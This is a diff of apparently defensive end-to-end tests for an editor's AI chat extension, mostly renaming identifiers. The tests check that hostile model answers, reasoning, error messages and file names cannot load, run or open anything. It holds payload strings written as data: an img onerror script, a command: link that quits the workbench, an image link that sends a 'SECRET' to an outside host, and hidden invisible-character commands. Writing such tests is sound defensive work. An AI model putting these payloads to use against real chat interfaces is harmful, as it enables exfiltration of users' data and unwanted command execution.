@@ -26,24 +26,24 @@ const session = useSession({
  * Server to whose address all URLs in the hostile payloads point. Records all requests, so that a test detects that the
  * extension loaded a payload.
  */
-let listener: LoopbackServer;
+let attackServer: LoopbackServer;
 let attackPage: string;
 
 beforeAll(async () => {
-  listener = await startHttpServer((_request, response) => response.end());
+  attackServer = await startHttpServer((_request, response) => response.end());
   const { workbench, chat } = session();
   await workbench.runCommand('Inference Service: Open Chat');
   await chat.composer.waitFor();
-  attackPage = `<img src=http://127.0.0.1:${listener.port}/x onerror=steal()>[a](command:workbench.action.quit)`;
+  attackPage = `<img src=http://127.0.0.1:${attackServer.port}/x onerror=steal()>[a](command:workbench.action.quit)`;
 });
-afterAll(() => listener[Symbol.asyncDispose]());
+afterAll(() => attackServer[Symbol.asyncDispose]());
 
 beforeEach(async () => {
   const { workbench, chat } = session();
   await workbench.closeOverlays();
   await getControl(session()).reset();
   await getControl(session()).setResponsePace('instant');
-  await session().newChat();
+  await session().openNewChat();
   await chat.content.locator('#app').evaluate(() => {
     Object.assign(globalThis, { stolen: 0, steal: () => Reflect.set(globalThis, 'stolen', 1) });
   });
@@ -51,7 +51,7 @@ beforeEach(async () => {
 
 test('a hostile answer with hostile reasoning cannot load, run or open anything', async () => {
   const { chat } = session();
-  const ownHost = `127.0.0.1:${listener.port}`;
+  const ownHost = `127.0.0.1:${attackServer.port}`;
   const texts = [
     ...payloads,
     '![x](https://e.tld/?q=SECRET)',
@@ -64,7 +64,7 @@ test('a hostile answer with hostile reasoning cannot load, run or open anything'
   await getControl(session()).addScripts({
     steps: [{ reasoning: content }, { content: `${content}\n\nThe end.` }],
   });
-  await chat.send('Try it');
+  await chat.sendText('Try it');
   await chat.lastAnswer.getByText('The end.').waitFor();
   await chat.waitUntilIdle();
   await chat.lastAnswer.getByText(/^Thought/u).click();
@@ -84,11 +84,11 @@ test('a link opens only after the user confirms the whole address', async () => 
   const countPages = (): number => page.context().pages().length;
   const open = countPages();
   const externalUrl = 'https://docs.invalid/p%2Fq?x=a%26b%3Dc&y=%2523';
-  const ownUrl = `http://127.0.0.1:${listener.port}/delete?all=1`;
+  const ownUrl = `http://127.0.0.1:${attackServer.port}/delete?all=1`;
   await getControl(session()).addScripts({
     steps: [{ content: `[away](${externalUrl}) and [here](${ownUrl})` }],
   });
-  await chat.send('Links');
+  await chat.sendText('Links');
   await chat.lastAnswer.getByRole('link', { name: 'here' }).waitFor();
   await chat.waitUntilIdle();
   const dialog = page.locator('.monaco-dialog-box');
@@ -115,11 +115,11 @@ test('requests contain no invisible characters, and the chat marks the positions
     times: 2,
     steps: [{ content: `Visible.${hiddenCommand}` }],
   });
-  await chat.send(`Look at this.${hiddenCommand}`);
+  await chat.sendText(`Look at this.${hiddenCommand}`);
   await chat.lastAnswer.getByText('U+E0072').first().waitFor();
   await chat.waitUntilIdle();
-  await chat.messages('You').last().getByText('invisible characters').waitFor();
-  await chat.send('And again.');
+  await chat.locateMessages('You').last().getByText('invisible characters').waitFor();
+  await chat.sendText('And again.');
   await getControl(session()).waitForRequest(
     ({ body }) => JSON.stringify({ body }).includes('And again.'),
     timeLimits.condition,
@@ -171,14 +171,14 @@ test('a hostile error message and hostile names of models, files and chats canno
     match: { path: '/chat/completions' },
     fault: { kind: 'status', status: 400, body: { error: attackPage } },
   });
-  await chat.send(`[a](command:workbench.action.quit) ${attackPage}`);
+  await chat.sendText(`[a](command:workbench.action.quit) ${attackPage}`);
   await chat.waitUntilIdle();
   const card = chat.lastAnswer.getByLabel('Problem').first();
   // Errors of a service are plain text without tags.
   expect(await card.innerText()).toContain('[a](command:workbench.action.quit)');
   expect(await card.innerText()).not.toContain('<img');
-  expect(await chat.messages('You').last().innerText()).toContain(attackPage);
-  expect(await chat.messages('You').last().innerText()).toContain(`${hostileName}:1`);
+  expect(await chat.locateMessages('You').last().innerText()).toContain(attackPage);
+  expect(await chat.locateMessages('You').last().innerText()).toContain(`${hostileName}:1`);
   expect(await countActiveElements()).toEqual(before);
 
   await workbench.chooseFromChatMenu('Delete Chat');
@@ -191,7 +191,7 @@ test('a hostile error message and hostile names of models, files and chats canno
 
 test('no rendered, logged or stored data contains the API key', async () => {
   const { chat, service, server, webviewMessages, consoleLines } = session();
-  await chat.send('Keep this.');
+  await chat.sendText('Keep this.');
   await chat.waitUntilIdle();
   await expect
     .poll(async () => (await readTextsBelow(server.dataFolder)).join('\n'))
@@ -221,9 +221,9 @@ async function expectNoSideEffects(): Promise<void> {
   expect(await chat.content.locator('#app').evaluate(() => Reflect.get(globalThis, 'stolen'))).toBe(
     0,
   );
-  expect(listener.countConnections()).toBe(0);
+  expect(attackServer.countConnections()).toBe(0);
   // A blocked request would cause a console message. The lookahead excludes ports that start with the same digits.
-  const hostPattern = new RegExp(String.raw`127\.0\.0\.1:${listener.port}(?!\d)`, 'u');
+  const hostPattern = new RegExp(String.raw`127\.0\.0\.1:${attackServer.port}(?!\d)`, 'u');
   expect(consoleLines.filter((line) => hostPattern.test(line))).toEqual([]);
 }
 
